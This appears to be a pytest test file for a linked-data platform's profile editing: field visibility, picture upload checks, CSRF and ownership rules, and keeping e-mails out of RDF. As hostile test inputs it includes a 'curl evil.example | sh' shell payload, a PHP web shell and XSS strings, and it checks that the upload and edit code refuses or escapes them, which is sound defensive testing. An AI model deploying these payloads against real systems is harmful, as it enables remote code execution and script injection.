"""Profiles: the page, the edit form (an Update activity, like LDP PUT), audiences per field,
pictures, and hostile input. Only public fields ever reach RDF; e-mails never do."""

from __future__ import annotations

import io
import os

import pytest
from PIL import Image
from rdflib import Graph, Literal, URIRef

from store.base import Write
from tests.accounts_support import account_for, image_bytes, login_as, platform_of
from tests.conftest import BASE

CC = "https://w3id.org/communecter/ns#"
CCT = "https://w3id.org/communecter/themes#"
AS = "https://www.w3.org/ns/activitystreams#"
XSD = "http://www.w3.org/2001/XMLSchema#"
ALICE = f"{BASE}/persons/alice"
BUTOR = f"{BASE}/territories/97411-butor"
ELSEWHERE = f"{BASE}/territories/97415-centre"


@pytest.fixture
def people(site):
    """Alice and Bob with accounts in Saint-Denis, two neighbourhoods (one in Saint-Denis,
    one in Saint-Paul), Alice logged in on site.client."""
    store = platform_of(site).store
    for iri, name, commune in ((BUTOR, "Le Butor", "97411"), (ELSEWHERE, "Centre", "97415")):
        store.write(Write(replace={iri: (
            f"<{iri}> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <{CC}Neighbourhood> .\n"
            f"<{iri}> <{AS}name> \"{name}\" .\n"
            f"<{iri}> <{CC}partOf> <{BASE}/territories/{commune}> .\n")}))
    account_for(site, "bob", "bob@example.org")
    site.token = login_as(site, "alice")
    return site


FIELDS = {"name": "", "bio": "", "skills": "", "neighbourhood": "",
          **{f"{n}_audience": "public" for n in ("name", "picture", "bio", "interests",
                                                 "skills", "neighbourhood")}}


def edit(site, handle: str = "alice", client=None, interests=(), picture=None, **fields):
    client = client or site.client
    data = {"csrf_token": site.token, **FIELDS, **fields, "interests": list(interests)}
    if picture is not None:
        data["picture"] = (io.BytesIO(picture[0]), picture[1])
    return client.post(f"/persons/{handle}/edit", data=data,
                       content_type="multipart/form-data")


def turtle(site, iri: str = ALICE) -> Graph:
    response = site.client.get(iri.removeprefix(BASE), headers={"Accept": "text/turtle"})
    assert response.status_code == 200
    return Graph().parse(data=response.get_data(as_text=True), format="turtle")


def values(graph: Graph, predicate: str, iri: str = ALICE) -> set[str]:
    return {str(o) for o in graph.objects(URIRef(iri), URIRef(predicate))}


def page(client, path: str = "/persons/alice") -> str:
    response = client.get(path, headers={"Accept": "text/html"})
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_data(as_text=True)


def sparql(site, query: str) -> str:
    response = site.client.get("/sparql", query_string={"query": query},
                               headers={"Accept": "application/sparql-results+json"})
    assert response.status_code == 200
    return response.get_data(as_text=True)


def dump(site) -> str:
    return b"".join(platform_of(site).store.dump("application/n-quads")).decode()


def uploads(site) -> list[str]:
    folder = platform_of(site).settings.data_dir / "uploads"
    return sorted(os.listdir(folder)) if folder.is_dir() else []


def test_public_fields_are_the_rdf_resource(people) -> None:
    site = people
    saved = edit(site, name="Alice Hoarau", bio="Jardinière du Butor.",
                 interests=("culture", "sport"), skills="menuiserie\njardinage, vélo",
                 neighbourhood=BUTOR)
    assert saved.status_code == 302 and saved.headers["Location"] == ALICE
    graph = turtle(site)
    assert values(graph, f"{AS}name") == {"Alice Hoarau"}
    assert values(graph, f"{AS}summary") == {"Jardinière du Butor."}
    assert values(graph, f"{CC}theme") == {f"{CCT}culture", f"{CCT}sport"}
    assert values(graph, f"{CC}skill") == {"menuiserie", "jardinage", "vélo"}
    assert values(graph, f"{CC}territory") == {BUTOR}
    assert values(graph, f"{AS}preferredUsername") == {"alice"}
    found = sparql(site, f"SELECT ?s WHERE {{ GRAPH ?g {{ ?s <{CC}skill> \"menuiserie\" }} }}")
    assert ALICE in found
    shown = page(site.app.test_client())
    for text in ("Alice Hoarau", "Jardinière du Butor.", "Culture", "menuiserie", "Le Butor"):
        assert text in shown


def test_members_only_and_private_fields_stay_out_of_rdf(people) -> None:
    site = people
    edit(site, name="Alice Hoarau", bio="Bio pour les membres", bio_audience="members",
         skills="compétence secrète", skills_audience="private", interests=("culture",),
         interests_audience="members", neighbourhood=BUTOR, neighbourhood_audience="private")
    graph = turtle(site)
    assert values(graph, f"{AS}name") == {"Alice Hoarau"}
    for predicate in (f"{AS}summary", f"{CC}skill", f"{CC}theme", f"{CC}territory"):
        assert values(graph, predicate) == set(), predicate
    everything = dump(site) + sparql(site, "SELECT * WHERE { GRAPH ?g { ?s ?p ?o } }")
    assert "Bio pour les membres" not in everything
    assert "compétence secrète" not in everything

    anonymous = page(site.app.test_client())
    assert "Alice Hoarau" in anonymous
    assert "Bio pour les membres" not in anonymous and "compétence secrète" not in anonymous
    bob = site.app.test_client()
    login_as(site, "bob", client=bob)
    seen_by_bob = page(bob)
    assert "Bio pour les membres" in seen_by_bob and "Culture" in seen_by_bob
    assert "compétence secrète" not in seen_by_bob and "Le Butor" not in seen_by_bob
    own = page(site.client)
    assert "compétence secrète" in own and "Le Butor" in own
    # the edit form shows the chosen audiences back
    form = page(site.client, "/persons/alice/edit")
    assert '<option value="private" selected>' in form
    response = site.client.get("/persons/alice", headers={"Accept": "text/html"})
    assert response.headers["Cache-Control"] == "private, no-store"
    assert "ETag" not in response.headers


def test_a_field_made_public_again_returns_to_rdf(people) -> None:
    site = people
    edit(site, bio="D'abord privé", bio_audience="private")
    assert values(turtle(site), f"{AS}summary") == set()
    edit(site, bio="D'abord privé", bio_audience="public")
    assert values(turtle(site), f"{AS}summary") == {"D'abord privé"}
    stored = platform_of(site).accounts.profile_fields(ALICE)
    assert stored["bio"] == ("public", None)  # public values live in RDF only


def test_picture_is_checked_resized_and_linked(people) -> None:
    site = people
    saved = edit(site, picture=(image_bytes("PNG", (1600, 1200)), "photo.png"))
    assert saved.status_code == 302
    (icon,) = values(turtle(site), f"{AS}icon")
    assert icon.startswith(f"{BASE}/uploads/") and icon.endswith(".jpg")
    served = site.app.test_client().get(icon.removeprefix(BASE))
    assert served.status_code == 200 and served.mimetype == "image/jpeg"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    with Image.open(io.BytesIO(served.data)) as image:
        assert image.format == "JPEG" and max(image.size) == 512
    assert icon in page(site.app.test_client())
    # a new picture replaces the old file; a transparent one stays PNG
    edit(site, picture=(image_bytes("PNG", (300, 300), mode="RGBA"), "logo.png"))
    (new_icon,) = values(turtle(site), f"{AS}icon")
    assert new_icon.endswith(".png") and uploads(site) == [new_icon.rsplit("/", 1)[1]]
    assert site.client.get(icon.removeprefix(BASE)).status_code == 404
    edit(site, remove_picture="1")
    assert values(turtle(site), f"{AS}icon") == set() and uploads(site) == []


def test_a_private_picture_is_served_to_its_owner_only(people) -> None:
    site = people
    edit(site, picture=(image_bytes("JPEG", (200, 200)), "moi.jpg"), picture_audience="private")
    assert values(turtle(site), f"{AS}icon") == set()
    (name,) = uploads(site)
    assert site.client.get(f"/uploads/{name}").status_code == 200
    assert site.app.test_client().get(f"/uploads/{name}").status_code == 404
    bob = site.app.test_client()
    login_as(site, "bob", client=bob)
    assert bob.get(f"/uploads/{name}").status_code == 404
    assert name not in page(bob)


FAKE_IMAGES = [
    (b"#!/bin/sh\ncurl evil.example | sh\n", "photo.jpg"),
    (b"<?php system($_GET['c']); ?>", "avatar.png"),
    (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "a.gif"),
    (image_bytes("PNG")[:120], "truncated.png"),
    (b"", "empty.jpg"),
]


def test_fake_images_are_refused(people) -> None:
    site = people
    before = dump(site)
    for content, filename in FAKE_IMAGES:
        refused = edit(site, name="Ne doit pas être enregistré", picture=(content, filename))
        assert refused.status_code == 422, filename
        assert "n&#39;est pas une image" in refused.get_data(as_text=True), filename
    assert dump(site) == before and uploads(site) == []
    assert platform_of(site).accounts.profile_fields(ALICE) == {}


def test_oversized_images_are_refused(people) -> None:
    site = people
    before = dump(site)
    too_heavy = edit(site, picture=(os.urandom(6 * 1024 * 1024), "big.jpg"))
    assert too_heavy.status_code == 413
    assert "trop grande" in too_heavy.get_data(as_text=True)
    out = io.BytesIO()
    Image.new("1", (10000, 5000)).save(out, "PNG")  # 50 megapixels, a few kilobytes
    too_wide = edit(site, picture=(out.getvalue(), "bomb.png"))
    assert too_wide.status_code == 422 and "trop grande" in too_wide.get_data(as_text=True)
    assert dump(site) == before and uploads(site) == []


HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def test_html_and_script_in_every_text_field_are_escaped(people) -> None:
    site = people
    saved = edit(site, name=HOSTILE[:150], bio=HOSTILE, skills=HOSTILE)
    assert saved.status_code == 302
    graph = turtle(site)
    assert values(graph, f"{AS}summary") == {HOSTILE}  # kept as data, verbatim
    for client in (site.client, site.app.test_client()):
        for path in ("/persons/alice", "/persons/alice/edit"):
            response = client.get(path, headers={"Accept": "text/html"})
            if response.status_code != 200:
                continue
            text = response.get_data(as_text=True)
            assert "<script>alert" not in text and "<img src=x" not in text
            assert "&lt;script&gt;alert" in text


def test_editing_someone_elses_profile_is_forbidden(people) -> None:
    site = people
    bob = site.app.test_client()
    token = login_as(site, "bob", client=bob)
    before = dump(site)
    assert bob.get("/persons/alice/edit").status_code == 403
    forged = bob.post("/persons/alice/edit", data={"csrf_token": token, **FIELDS,
                                                     "name": "Pirate"})
    assert forged.status_code == 403
    assert "votre propre profil" in forged.get_data(as_text=True)
    assert dump(site) == before
    anonymous = site.app.test_client()
    assert anonymous.get("/persons/alice/edit").status_code == 302
    assert site.client.get("/persons/nobody/edit").status_code == 404


BAD_VALUES = [
    ({"interests": ("culture", "astrologie")}, "Thématique inconnue"),
    ({"neighbourhood": ELSEWHERE}, "pas un quartier de votre commune"),
    ({"neighbourhood": f"{BASE}/persons/bob"}, "pas un quartier de votre commune"),
    ({"bio_audience": "everyone"}, "Visibilité inconnue"),
    ({"name": "x" * 201}, "au plus 200 caractères"),
    ({"bio": "x" * 2001}, "au plus 2000 caractères"),
    ({"skills": "y" * 201}, "au plus 200 caractères"),
]


def test_bad_values_are_refused_and_nothing_is_saved(people) -> None:
    site = people
    edit(site, name="Alice", bio="Avant", bio_audience="members")
    before = (dump(site), platform_of(site).accounts.profile_fields(ALICE), uploads(site))
    for fields, problem in BAD_VALUES:
        refused = edit(site, name=fields.get("name", "Alice modifiée"),
                       bio=fields.get("bio", "Après"), picture=(image_bytes("PNG"), "ok.png"),
                       **{k: v for k, v in fields.items() if k not in ("name", "bio")})
        assert refused.status_code == 422, fields
        assert problem in refused.get_data(as_text=True), fields
        assert (dump(site), platform_of(site).accounts.profile_fields(ALICE),
                uploads(site)) == before


def test_a_form_older_than_the_resource_is_refused(people) -> None:
    site = people
    form = page(site.client, "/persons/alice/edit")
    etag = form.split('name="etag" value="', 1)[1].split('"', 1)[0]
    edit(site, name="Changée ailleurs")
    stale = edit(site, name="Trop tard", etag=etag)
    assert stale.status_code == 409
    assert "a changé depuis" in stale.get_data(as_text=True).replace("&#39;", "'")
    assert values(turtle(site), f"{AS}name") == {"Changée ailleurs"}


def test_edits_keep_what_other_vocabularies_said(people) -> None:
    site = people
    put = site.client.put("/persons/alice", headers={**site.auth("alice"),
                                                     "Content-Type": "text/turtle"},
                          data=f"<{ALICE}> a <{CC}Citizen> ; <{AS}preferredUsername> \"alice\" ;"
                               f" <http://xmlns.com/foaf/0.1/nick> \"lili\" .")
    assert put.status_code == 204
    edit(site, name="Alice")
    graph = turtle(site)
    assert values(graph, "http://xmlns.com/foaf/0.1/nick") == {"lili"}
    assert (URIRef(ALICE), URIRef(f"{AS}name"), Literal("Alice")) in graph


def test_the_page_lists_the_persons_activity(people) -> None:
    site = people
    event = f"""<> a <{CC}Event> ; <{AS}name> "Atelier compost" ;
        <{CC}territory> <{BASE}/territories/97411> ;
        <{AS}startTime> "2026-12-20T18:00:00+04:00"^^<{XSD}dateTime> ."""
    created = site.client.post("/events/", data=event, headers={
        **site.auth("alice"), "Content-Type": "text/turtle"})
    assert created.status_code == 201
    shown = page(site.app.test_client())
    assert "Atelier compost" in shown and created.headers["Location"] in shown
    assert "Atelier compost" not in page(site.app.test_client(), "/persons/bob")


def test_the_email_is_in_no_rdf_no_sparql_result_and_no_one_elses_page(people) -> None:
    site = people
    edit(site, name="Alice", bio="Bonjour", skills="cuisine", interests=("culture",))
    address = "alice@example.org"
    assert platform_of(site).accounts.by_actor(ALICE).email == address
    for media in ("text/turtle", "application/ld+json", "application/n-triples"):
        body = site.client.get("/persons/alice", headers={"Accept": media})
        assert address not in body.get_data(as_text=True)
    assert address not in dump(site)
    assert address not in sparql(site, "SELECT * WHERE { GRAPH ?g { ?s ?p ?o } }")
    assert "example.org" not in site.client.get("/dump.nq").get_data(as_text=True)
    bob = site.app.test_client()
    login_as(site, "bob", client=bob)
    for client in (bob, site.app.test_client(), site.client):
        assert address not in page(client)
